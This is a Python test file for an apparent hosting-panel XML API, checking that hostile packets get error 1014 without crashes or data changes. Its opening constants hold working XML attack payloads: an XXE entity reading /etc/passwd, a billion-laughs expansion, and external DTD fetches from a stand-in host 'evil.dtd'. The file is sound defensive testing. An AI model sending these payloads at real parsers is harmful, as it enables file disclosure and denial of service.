"""XML safety: hostile and malformed packets get a <system> 1014 (never a 500, a hang or a changed store)."""
import pytest
from lxml import etree
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from polypanel.auth import keys
from polypanel.core import accounts, dns

from .conftest import Agent, packet, system_code

XXE = ('<?xml version="1.0"?><!DOCTYPE packet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       '<packet><customer><add><gen_info><pname>&x;</pname><login>xxe</login><passwd>Xx-Passw0rd!1</passwd>'
       '</gen_info></add></customer></packet>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE packet [<!ENTITY a "aaaaaaaaaa">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
          + ']><packet><customer><get><filter><login>&i;</login></filter></get></customer></packet>')
NETWORK_DTD = '<?xml version="1.0"?><!DOCTYPE packet SYSTEM "http://192.0.2.1/evil.dtd"><packet><server><get_protos/></server></packet>'
PARAMETER = ('<?xml version="1.0"?><!DOCTYPE packet [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>'
             '<packet><server><get_protos/></server></packet>')


def snapshot(panel):
    with panel.context(panel.admin(), read_only=True) as ctx:
        return ([(a.id, a.login, a.status, a.name) for a in accounts.list_(ctx)],
                [(k.id, k.hint) for k in keys.list_(ctx)],
                [(z.name, len(z.records)) for z in dns.list_zones(ctx)])


@pytest.mark.parametrize("body", [XXE, LAUGHS, NETWORK_DTD, PARAMETER], ids=["xxe", "laughs", "dtd", "parameter"])
def test_document_types_are_refused(panel, agent, body):
    before = snapshot(panel)
    root = agent.post(body)
    assert system_code(root) == 1014
    assert b"root:" not in agent.raw(body).content
    assert snapshot(panel) == before


def test_deep_nesting_and_many_elements_are_refused(agent):
    deep = "<packet><server>" + "<a>" * 5000 + "</a>" * 5000 + "</server></packet>"
    assert system_code(agent.post(deep)) == 1014
    wide = packet("<server><get>" + "<gen_info/>" * 30000 + "</get></server>")
    assert system_code(agent.post(wide)) == 1014


def test_oversized_packet_is_refused(agent):
    big = packet("<customer><get><filter><login>" + "x" * (3 * 1024 * 1024) + "</login></filter></get></customer>")
    assert system_code(agent.post(big)) == 1014


def test_binary_and_odd_encodings(agent):
    for body in (b"\x00\xff\xfe garbage", "<packet>\udcff</packet>".encode("utf-8", "surrogatepass"),
                 '<?xml version="1.0" encoding="UTF-16"?><packet/>'.encode("utf-16"),
                 b'<?xml version="1.0" encoding="nope"?><packet/>'):
        assert system_code(agent.post(body)) == 1014


OPERATORS = ["server", "customer", "reseller", "dns", "secret_key", "webspace", "site", "unknown", "packet",
             "protected-dir", "ui", "service-plan", "service-plan-addon", "php-handler", "mail", "session", "extension"]
OPERATIONS = ["get", "add", "set", "del", "get_rec", "add_rec", "del_rec", "get_info", "create", "delete",
              "get_protos", "filter", "x", "add-user", "set-user", "delete-user", "create-custombutton",
              "get-custombutton", "delete-custombutton", "get-navigation", "add-subscription", "remove-subscription",
              "call", "update", "terminate", "get-user", "get-pd-location-descriptor"]
FIELDS = ["filter", "id", "login", "name", "site-id", "key", "gen_info", "gen-info", "dataset", "values",
          "type", "host", "value", "opt", "passwd", "status", "ip_address", "template", "data", "pd-id", "owner",
          "properties", "prefs", "permissions", "permission", "alias", "autoresponder", "plan-guid",
          "custombutton-id", "mailname", "header", "session-id", "performance", "bandwidth", "max_connections",
          "limits", "limit", "icp-permit", "outgoing-messages-domain-limit", "location", "property"]
text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40).map(
    lambda s: s.replace("&", "&amp;").replace("<", "&lt;"))


def _element(depth):
    leaf = st.builds(lambda t, v: f"<{t}>{v}</{t}>", st.sampled_from(FIELDS), text)
    if depth == 0:
        return leaf
    return st.one_of(leaf, st.builds(lambda t, kids: f"<{t}>{''.join(kids)}</{t}>", st.sampled_from(FIELDS),
                                     st.lists(_element(depth - 1), max_size=4)))


packets = st.builds(
    lambda ops, version: f'<packet{version}>' + "".join(ops) + "</packet>",
    st.lists(st.builds(lambda o, p, body: f"<{o}><{p}>{''.join(body)}</{p}></{o}>", st.sampled_from(OPERATORS),
                       st.sampled_from(OPERATIONS), st.lists(_element(2), max_size=4)), max_size=3),
    st.sampled_from(["", ' version="1.6.9.1"', ' version="9"', ' version="1.6.3.0"']))
garbage = st.one_of(st.binary(max_size=200), packets.map(lambda p: p[: len(p) // 2]),
                    packets.map(lambda p: p.replace("<", "<!", 1)))


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(body=st.one_of(packets, garbage))
def test_fuzz_as_a_customer_never_fails_and_never_changes_the_store(fuzz_agent, body):
    agent, panel, before = fuzz_agent
    r = agent.raw(body if isinstance(body, bytes) else body.encode(), headers={
        "HTTP_AUTH_LOGIN": "fuzzcust", "HTTP_AUTH_PASSWD": "Fuzz-Passw0rd!1"})
    assert r.status_code == 200 and r.content.startswith(b"<?xml")
    assert b"Traceback" not in r.content
    after = snapshot(panel)
    assert after[0] == before[0] and after[2] == before[2]


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(body=st.one_of(packets, garbage), headers=st.sampled_from([{}, {"KEY": "bad-key"}, {"HTTP_AUTH_LOGIN": "x"}]))
def test_fuzz_without_valid_credentials_answers_a_system_error(fuzz_agent, body, headers):
    agent, panel, before = fuzz_agent
    r = agent.raw(body if isinstance(body, bytes) else body.encode(), headers=headers)
    root = etree.fromstring(r.content)
    assert r.status_code == 200 and root.findtext("system/errcode") in ("1001", "1029", "11003")
    assert snapshot(panel) == before


@pytest.fixture
def fuzz_agent(panel):
    """One store for every fuzz example: a customer whose reads and refused writes change nothing."""
    with panel.context(panel.admin()) as ctx:
        accounts.create(ctx, role="customer", login="fuzzcust", password="Fuzz-Passw0rd!1")
    return Agent(panel), panel, snapshot(panel)


def test_too_many_operations_in_one_packet_is_1014(agent):
    body = packet("<customer><get><filter>" + "<login>x</login>" * 1001 + "</filter></get></customer>")
    assert system_code(agent.post(body)) == 1014
    fine = packet("<customer><get><filter>" + "<login>x</login>" * 50 + "</filter></get></customer>")
    assert len(agent.post(fine).findall("customer/get/result")) == 50


def test_changes_need_a_filter(panel, agent):
    with panel.context(panel.admin()) as ctx:
        accounts.create(ctx, role="customer", login="keepme", password="Keep-Passw0rd!1")
    before = snapshot(panel)
    for body in ("<customer><del/></customer>", "<webspace><del/></webspace>",
                 "<customer><set><values><gen_info><status>16</status></gen_info></values></set></customer>"):
        assert system_code(agent.post(packet(body))) == 1014
    assert snapshot(panel) == before
